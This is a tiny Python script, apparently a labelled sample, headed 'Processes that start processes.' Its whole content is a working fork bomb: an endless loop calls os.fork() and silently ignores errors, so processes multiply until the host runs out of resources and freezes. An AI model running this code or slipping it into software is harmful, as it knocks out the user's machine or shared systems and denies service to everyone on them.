# Processes that start processes.
# %% honest
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
